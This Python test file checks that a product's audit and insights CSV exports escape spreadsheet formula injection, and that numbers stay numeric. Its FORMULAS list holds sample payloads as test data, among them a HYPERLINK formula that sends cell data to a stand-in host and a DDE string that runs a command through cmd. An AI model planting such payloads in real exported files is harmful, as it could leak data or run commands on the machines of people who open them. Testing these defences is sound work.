"""Every CSV the product exports is safe to open in a spreadsheet: a text cell that
would start a formula is kept as text, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from bot.csv_export import safe_cell
from bot.insights import export
from bot.studio import audit

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1, "Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_kept_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Social Security", "a = b", "", 42, -3, 0.5, None])
def test_other_cells_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("text", FORMULAS)
def test_the_studio_audit_export_escapes_formulas(text: str) -> None:
    row = {
        "id": 1,
        "at": "2026-01-05T14:00:00",
        "actor": "edna",
        "action": "submit",
        "item_type": "review",
        "item_key": text,
        "comment": text,
        "before": None,
        "after": {"text": text},
    }
    (exported,) = read(audit.to_csv([row]))
    assert exported["item_key"] == exported["comment"] == "'" + text
    assert exported["after"].startswith("{")  # JSON text never starts a formula
    assert exported["id"] == "1"


@pytest.mark.parametrize("text", FORMULAS)
def test_the_quarterly_insights_export_escapes_formulas(text: str) -> None:
    row = {column: "" for column in export.HEADER}
    row.update(service_name=text, question_text=text, volume_of_customers=-1, fiscal_year=2026)
    (exported,) = read(export.to_csv([row]))
    assert exported["service_name"] == exported["question_text"] == "'" + text
    assert exported["volume_of_customers"] == "-1"  # a number, not text
